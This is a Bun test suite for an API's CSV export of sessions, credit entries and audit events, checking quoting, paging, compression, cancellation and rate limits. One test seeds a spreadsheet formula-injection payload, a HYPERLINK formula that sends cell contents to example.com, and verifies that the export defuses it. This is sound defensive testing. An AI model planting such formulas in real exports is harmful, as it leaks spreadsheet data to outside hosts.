/** Lists as CSV files: complete, safe for spreadsheets, bounded, and ended with their caller or connection. */
import { describe, expect, test } from "bun:test";
import { seedSession } from "@realtime-avatar/testing/credits";
import type { TestDb } from "@realtime-avatar/testing/database";
import { whileHeld } from "@realtime-avatar/testing/postgres/waits";
import { seedCaller, seedKey, seedTenant } from "@realtime-avatar/testing/seeds";
import { until } from "@realtime-avatar/testing/until";
import { startApi, testStorage } from "../../../test/support/api.ts";
import { pageHeaders, seedPerson } from "../../../test/support/people/people.ts";
import { encodedFor, streamParts } from "./export.ts";

let isEnding = false;
const api = await startApi(testStorage, { isEnding: () => isEnding }, { deadlineMs: 60_000 });
const { db } = api.database;
const { client } = db;

/** A tenant with a key and `count` credit entries. */
const newTenant = async (count = 0) => {
  const tenantId = await seedTenant(db, { live: 1e12 });
  const { secret, record } = await seedKey(db, tenantId, { environment: "live", scopes: ["*"] });
  await client`
    insert into credit_entries (tenant_id, id, environment, kind, amount, request_id, created_at)
    select ${tenantId}, 'ent_01h455vb4p' || lpad(i::text, 16, '0'), 'live', 'void', i, 'r', now()
    from generate_series(1, ${count}) i`;
  return { tenantId, key: secret.reveal(), record };
};

/** The cells of each row, parsed by the rules of RFC 4180. */
const rowsOf = (text: string): string[][] =>
  [...text.matchAll(/((?:"(?:[^"]|"")*"|[^"\r])*)\r\n/g)].map(([, row = ""]) =>
    [...row.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(
      ([, quoted, plain = ""]) => quoted?.replaceAll('""', '"') ?? plain,
    ),
  );
const cellOf = (value: unknown): string =>
  value === null ? "" : typeof value === "object" ? JSON.stringify(value) : String(value);
const get = (path: string, key: string) => api.call("GET", `/api/v1/${path}`, { key });

describe("a list as a file", () => {
  test.each(["usage/sessions", "credits/entries", "audit-events"])(
    "%s: the fields and rows of its pages",
    async (path) => {
      const { key } = await newTenant(3);
      const { body: avatar } = await api.call("POST", "/api/v1/avatars", {
        key,
        body: { displayName: "x", sourceKind: "image" },
      });
      expect(avatar.status).toBe("draft");
      for (const user_id of ['say "hi", Ada', "é\n😀"]) {
        await api.call("POST", "/api/v1/usage/sessions", {
          key,
          body: { maxSessionSeconds: 1, metadata: { user_id } },
        });
      }
      const { data } = (await get(path, key)).body;
      expect(data.length).toBeGreaterThan(1);
      const file = await get(`${path}.csv`, key);
      expect(file.status).toBe(200);
      expect(rowsOf(file.text)).toEqual([
        Object.keys(data[0]),
        ...data.map((item: object) => Object.values(item).map(cellOf)),
      ]);
      expect(file.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
      expect(file.headers.get("content-disposition")).toMatch(
        /^attachment; filename="[a-z-]+-live-20\d\d-\d\d-\d\d\.csv"$/,
      );
      expect([file.headers.get("cache-control"), file.headers.get("x-content-type-options")]).toEqual([
        "no-store",
        "nosniff",
      ]);
      const head = await api.call("HEAD", `/api/v1/${path}.csv`, { key });
      expect([head.status, head.text, head.headers.get("content-type")]).toEqual([
        200,
        "",
        file.headers.get("content-type"),
      ]);
    },
  );

  test("texts that look like formulas: texts in the file", async () => {
    const { key, tenantId, record } = await newTenant();
    const id = await seedSession(db, await seedCaller(db, tenantId), { metadata: { user_id: "=1" } });
    await client`update usage_sessions set status = 'released', ended_at = now(), started_at = now(), closed_by = ${record.id},
      reason = '=HYPERLINK("https://example.com?"&A1,"x")' where id = ${id}`;
    const [names = [], cells = []] = rowsOf((await get("usage/sessions.csv", key)).text);
    expect(cells[names.indexOf("releaseReason")]).toBe(`'=HYPERLINK("https://example.com?"&A1,"x")`);
    expect(cells[names.indexOf("metadata")]).toBe('{"user_id":"=1"}');
    expect(cells[names.indexOf("usedCreditMicros")]).toBe("0");
    const headers = { "x-request-id": "-2-3" };
    await api.call("POST", "/api/v1/avatars", { key, headers, body: { displayName: "x", sourceKind: "image" } });
    expect((await get("audit-events.csv?action=avatar.created", key)).text).toContain(",'-2-3,");
  });

  test("a file of several pages, and one in parts: the same rows", async () => {
    const { key } = await newTenant(1234);
    const whole = rowsOf((await get("credits/entries.csv?kind=void", key)).text);
    expect(whole.length).toBe(1 + 1234);
    const rows: string[][] = [];
    let cursor = "";
    do {
      const [, ...part] = rowsOf(
        (await get(`credits/entries.csv?kind=void&limit=617${cursor && `&cursor=${cursor}`}`, key)).text,
      );
      const last = part.at(-1) ?? [];
      expect(last.length).toBe(whole[0]?.length ?? 0);
      cursor = /^# NOT COMPLETE: .*cursor=(.+)$/.exec(last[0] ?? "")?.[1] ?? "";
      rows.push(...(cursor ? part.slice(0, -1) : part));
    } while (cursor);
    expect(rows).toEqual(whole.slice(1));
  });

  test("a file with a limit, below, at and above whole pages: that number of rows, and the cursor of the next file", async () => {
    const { key } = await newTenant(1100);
    for (const limit of [1, 499, 500, 501, 617, 1000, 1001, 1100]) {
      const [, ...rows] = rowsOf((await get(`credits/entries.csv?kind=void&limit=${limit}`, key)).text);
      const isPart = rows.at(-1)?.[0]?.startsWith("# NOT COMPLETE") ?? false;
      expect([limit, isPart, rows.length]).toEqual([limit, limit < 1100, limit < 1100 ? limit + 1 : limit]);
    }
  });

  test("a file, compressed for a client that accepts gzip: the bytes of the plain one", async () => {
    const { key } = await newTenant(1234);
    const read = async (coding: string, method = "GET") => {
      const headers = { authorization: `Bearer ${key}`, "accept-encoding": coding };
      const init = { method, headers, decompress: false } as RequestInit;
      const response = await fetch(`${api.url}/api/v1/credits/entries.csv`, init);
      expect([response.status, response.headers.get("vary")]).toEqual([200, "Accept-Encoding"]);
      return { coding: response.headers.get("content-encoding"), bytes: await response.bytes() };
    };
    const plain = await read("identity");
    expect([plain.coding, (await read("gzip;q=0, br")).bytes.length]).toEqual([null, plain.bytes.length]);
    const gzip = await read("br, gzip");
    expect(gzip.coding).toBe("gzip");
    expect(Buffer.from(Bun.gunzipSync(Buffer.from(gzip.bytes))).equals(plain.bytes)).toBe(true);
    expect(gzip.bytes.length).toBeLessThan(plain.bytes.length / 5);
    const head = await read("gzip", "HEAD");
    expect([head.coding, head.bytes.length]).toEqual(["gzip", 0]);
  });

  test("filters that exclude all rows of some pages: the other rows", async () => {
    const { key, tenantId } = await newTenant(12_000);
    const kept = `ent_01h455vb4p${"0".repeat(15)}1`;
    await client`
      insert into credit_entries (tenant_id, id, environment, kind, amount, api_key_id, session_id, request_id, created_at)
      select tenant_id, 'ent_00h455vb4p' || right(id, 16), environment, kind, amount, 'key_x',
        case when id = ${kept} then 'ses_y' else 'ses_x' end, request_id, created_at
      from credit_entries where tenant_id = ${tenantId} and kind = 'void'`;
    await client`
      insert into credit_entries (tenant_id, id, environment, kind, amount, api_key_id, session_id, request_id, created_at)
      values (${tenantId}, ${kept.replace("01h", "02h")}, 'live', 'grant', 1, 'key_x', 'ses_y', 'r', now())`;
    const ids = async (query: string) =>
      rowsOf((await get(`credits/entries.csv?${query}`, key)).text).map(([id]) => id);
    expect(await ids("sessionId=ses_y&kind=void")).toEqual(["id", kept.replace("01h", "00h")]);
    expect(await ids("apiKeyId=key_x&kind=grant")).toEqual(["id", kept.replace("01h", "02h")]);
  });

  test("a process that stops: the file ends after a page, marked as incomplete", async () => {
    const { key } = await newTenant(600);
    isEnding = true;
    const answer = await get("credits/entries.csv", key);
    isEnding = false;
    const rows = rowsOf(answer.text);
    expect(rows.length).toBe(1 + 500 + 1);
    expect(rows.at(-1)?.[0]).toStartWith("# NOT COMPLETE");
  });
});

/** Opens a file. Returns its remaining parts after the first one has come. */
const openFile = async (path: string, headers: Record<string, string>) => {
  // Uncompressed: the compressed file would fit into the buffers of the connection.
  const response = await fetch(`${api.url}/api/v1/${path}`, { headers: { ...headers, "accept-encoding": "identity" } });
  expect(response.status).toBe(200);
  const reader = (response.body as ReadableStream<Uint8Array>).getReader();
  let length = (await reader.read()).value?.length ?? 0;
  expect(length).toBeGreaterThan(0);
  const rest = async (): Promise<string> => {
    try {
      for (let { value } = await reader.read(); value !== undefined; { value } = await reader.read())
        length += value.length;
      return "whole";
    } catch {
      return "cut off";
    }
  };
  return { rest, cancel: () => reader.cancel() };
};
const lock: (holder: TestDb) => PromiseLike<unknown> = ({ client: holder }) =>
  holder`lock table credit_entries in access exclusive mode`;
const outcomes = (): string[] =>
  api.log.map((line) => JSON.parse(line)).flatMap(({ msg, outcome }) => (msg === "export" ? [outcome] : []));

describe("a compressed file that is being sent", () => {
  const part = new TextEncoder().encode("x,y\r\n".repeat(1000));

  test("its source fails: the stream fails", async () => {
    let parts = 0;
    const source = new ReadableStream<Uint8Array>({
      pull: (controller) => (parts++ < 3 ? controller.enqueue(part) : controller.error(new Error("revoked"))),
    });
    await expect(new Response(encodedFor(source, true)).bytes()).rejects.toThrow("revoked");
  });

  // The end comes at once or never, so a long timeout is harmless.
  const timeout = 10_000;
  test.each([true, false])(
    "its client disconnects, compressed %p: no further part is created",
    async (isCompressed) => {
      const { promise, resolve } = Promise.withResolvers<void>();
      async function* parts(): AsyncGenerator<string, void> {
        try {
          for (;;) yield "x,y\r\n".repeat(1000);
        } finally {
          resolve();
        }
      }
      const reader = encodedFor(streamParts(parts()), isCompressed).getReader();
      await reader.read();
      await reader.cancel();
      await promise;
    },
    timeout,
  );

  test("its client disconnects: the source is cancelled", async () => {
    const { promise, resolve } = Promise.withResolvers<void>();
    const source = new ReadableStream<Uint8Array>({
      pull: (controller) => controller.enqueue(part),
      cancel: () => resolve(),
    });
    const reader = encodedFor(source, true).getReader();
    await reader.read();
    await reader.cancel();
    await promise;
  });
});

describe("a file that is being sent", async () => {
  const { tenantId } = await newTenant(10_000);
  const newKey = async () => {
    const { secret, record } = await seedKey(db, tenantId, { environment: "live", scopes: ["*"] });
    return { id: record.id, headers: { authorization: `Bearer ${secret.reveal()}` } };
  };
  const path = "credits/entries.csv";

  test("its key is revoked: cut off", async () => {
    const { id, headers } = await newKey();
    const { rest } = await openFile(path, headers);
    const revoke = ({ client: holder }: TestDb) =>
      holder`update api_keys set revoked_at = now(), version = version + 1 where id = ${id}`;
    expect([await whileHeld(api.database, lock, rest, revoke), outcomes().at(-1)]).toEqual([
      "cut off",
      "revoked_api_key",
    ]);
  });

  test("its person's session is ended: cut off", async () => {
    const person = await seedPerson(api, "viewer", tenantId);
    const { rest } = await openFile(path, pageHeaders(person.cookie));
    const end = ({ client: holder }: TestDb) => holder`delete from user_sessions where id = ${person.sessionId}`;
    expect([await whileHeld(api.database, lock, rest, end), outcomes().at(-1)]).toEqual(["cut off", "invalid_session"]);
  });

  test("its connection is closed: no further page is read", async () => {
    const { headers } = await newKey();
    const { rest, cancel } = await openFile(path, headers);
    const before = outcomes().length;
    await whileHeld(api.database, lock, async () => void rest(), cancel);
    await until(() => outcomes().length !== before, { pollMs: 5 });
    expect(outcomes().at(-1)).toBe("disconnected");
  });

  test("a tenant at its limit of files: 429; another tenant: 200; after one file is read: 200", async () => {
    const [{ headers }, other] = [await newKey(), await newTenant()];
    const open = await Promise.all([openFile(path, headers), openFile(path, headers)]);
    const ends = () => Promise.all(open.map(({ rest }) => rest()));
    const meanwhile = async () => {
      const refused = await api.call("GET", `/api/v1/${path}`, { headers });
      expect([refused.status, refused.body.code]).toEqual([429, "rate_limited"]);
      expect(refused.headers.get("retry-after")).toBe("5");
      expect((await get("audit-events.csv", other.key)).status).toBe(200);
    };
    expect(await whileHeld(api.database, lock, ends, meanwhile)).toEqual(["whole", "whole"]);
    expect((await api.call("GET", `/api/v1/${path}?limit=1`, { headers })).status).toBe(200);
  });
});
